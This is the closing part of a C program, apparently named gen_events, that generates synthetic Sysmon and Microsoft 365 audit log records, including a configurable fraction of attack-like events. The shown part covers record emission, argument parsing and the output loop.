    j_nv(b, "BrowserType", below(r, 2) ? "Edge" : "Chrome");
    j_nv(b, "IsCompliantAndManaged", "True");
    j_nv(b, "SessionId", sess);
    j_arr_close(b);
    if (failed) {
        j_str(b, "ErrorNumber", "50126");
        j_str(b, "LogonError", "InvalidUserNameOrPassword");
    } else {
        j_str(b, "ErrorNumber", "0");
    }
    j_close(b);
    b_putc(b, '\n');
}

static void emit_m365(gen_t *g, buf_t *b)
{
    static unsigned weights[COUNT(M365_OPS)];
    if (!weights[0])
        for (size_t i = 0; i < COUNT(M365_OPS); i++)
            weights[i] = M365_OPS[i].weight;
    rng_t *r = &g->r;
    g->n_m365++;
    const char *op = M365_OPS[pick_weighted(r, weights, COUNT(weights))].name;
    const user_t *u = &g->users[below(r, N_USERS)];
    if (strncmp(op, "File", 4) == 0)
        emit_file_op(g, b, u, op);
    else if (strcmp(op, "MailItemsAccessed") == 0)
        emit_mail_access(g, b, u);
    else if (strcmp(op, "Send") == 0)
        emit_send(g, b, u);
    else if (strcmp(op, "UserLoggedIn") == 0)
        emit_logon(g, b, u, 0);
    else if (strcmp(op, "UserLoginFailed") == 0)
        emit_logon(g, b, u, 1);
    else
        emit_admin(g, b, &g->users[below(r, 8)], op);
}

/* ---------------------------------------------------------------- main */

static uint64_t parse_size(const char *s)
{
    char *end;
    errno = 0;
    unsigned long long v = strtoull(s, &end, 10);
    if (errno || end == s)
        die("bad size: %s", s);
    uint64_t mul = 1;
    switch (*end) {
    case 0: break;
    case 'k':
    case 'K': mul = 1024; break;
    case 'm':
    case 'M': mul = 1024 * 1024; break;
    case 'g':
    case 'G': mul = 1024 * 1024 * 1024; break;
    default: die("bad size suffix: %s", s);
    }
    if (*end && end[1] && strcmp(end + 1, "iB") != 0 && strcmp(end + 1, "B") != 0)
        die("bad size suffix: %s", s);
    return (uint64_t)v * mul;
}

static uint32_t parse_ratio(const char *s)
{
    char *end;
    double v = strtod(s, &end);
    if (end == s || *end || v < 0 || v > 1)
        die("ratio must be a number in [0, 1]: %s", s);
    return (uint32_t)(v * 1000000.0 + 0.5);
}

static void usage(void)
{
    fputs("usage: gen_events [--bytes N] [--seed S] [--m365-ratio R] [--malicious-ratio R] "
          "-o FILE\n"
          "  --bytes N            output size; suffixes K, M, G (KiB, MiB, GiB); default 1G\n"
          "  --seed S             PRNG seed (default 1)\n"
          "  --m365-ratio R       fraction of Microsoft 365 records (default 0.2)\n"
          "  --malicious-ratio R  fraction of attack-like Sysmon events (default 0.001)\n"
          "  -o FILE              output file, '-' for standard output\n",
          stderr);
}

int main(int argc, char **argv)
{
    uint64_t bytes = UINT64_C(1) << 30, seed = 1;
    uint32_t m365_ppm = 200000, bad_ppm = 1000;
    const char *out_path = NULL;
    for (int i = 1; i < argc; i += 2) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "-h") == 0 || strcmp(a, "--help") == 0) {
            usage();
            return 0;
        }
        if (!v) {
            usage();
            die("missing value for %s", a);
        }
        if (strcmp(a, "--bytes") == 0) {
            bytes = parse_size(v);
        } else if (strcmp(a, "--seed") == 0) {
            char *end;
            errno = 0;
            seed = strtoull(v, &end, 0);
            if (errno || end == v || *end)
                die("bad seed: %s", v);
        } else if (strcmp(a, "--m365-ratio") == 0) {
            m365_ppm = parse_ratio(v);
        } else if (strcmp(a, "--malicious-ratio") == 0) {
            bad_ppm = parse_ratio(v);
        } else if (strcmp(a, "-o") == 0 || strcmp(a, "--output") == 0) {
            out_path = v;
        } else {
            usage();
            die("unknown argument: %s", a);
        }
    }
    if (!out_path) {
        usage();
        die("-o FILE is required");
    }

    FILE *out = strcmp(out_path, "-") == 0 ? stdout : fopen(out_path, "wb");
    if (!out)
        die("cannot open %s: %s", out_path, strerror(errno));

    gen_t *g = calloc(1, sizeof(*g));
    if (!g)
        die("out of memory");
    g->r.s = seed;
    g->m365_ppm = m365_ppm;
    g->malicious_ppm = bad_ppm;
    g->now_us = UINT64_C(1740988800) * 1000000; /* 2025-03-03T08:00:00Z */
    for (int i = 0; i < N_DEFS; i++) {
        g->def_parent[i] = def_index(CATALOG[i].parent);
        g->def_weight[i] = CATALOG[i].weight;
        if (CATALOG[i].weight && !CATALOG[i].cmd[0])
            die("catalogue entry %s has no command line", CATALOG[i].name);
    }
    g->def_lsass = def_index("lsass");
    g->def_conhost = def_index("conhost");
    init_people(g);

    buf_t b = {0};
    uint64_t written = 0, events = 0;
    while (written < bytes) {
        g->now_us += range(&g->r, 1, 1200);
        size_t before = b.n;
        if (chance_ppm(&g->r, g->m365_ppm))
            emit_m365(g, &b);
        else
            emit_sysmon(g, &b);
        written += b.n - before;
        events++;
        if (b.n >= (1u << 22)) {
            if (fwrite(b.d, 1, b.n, out) != b.n)
                die("write to %s failed: %s", out_path, strerror(errno));
            b.n = 0;
        }
    }
    if (b.n && fwrite(b.d, 1, b.n, out) != b.n)
        die("write to %s failed: %s", out_path, strerror(errno));
    if (out != stdout ? fclose(out) != 0 : fflush(out) != 0)
        die("closing %s failed: %s", out_path, strerror(errno));
    fprintf(stderr,
            "gen_events: %" PRIu64 " bytes, %" PRIu64 " events (%" PRIu64 " Sysmon, %" PRIu64
            " Microsoft 365, %" PRIu64 " attack-like) -> %s\n",
            written, events, g->n_sysmon, g->n_m365, g->n_bad, out_path);
    free(b.d);
    free(g);
    return 0;
}
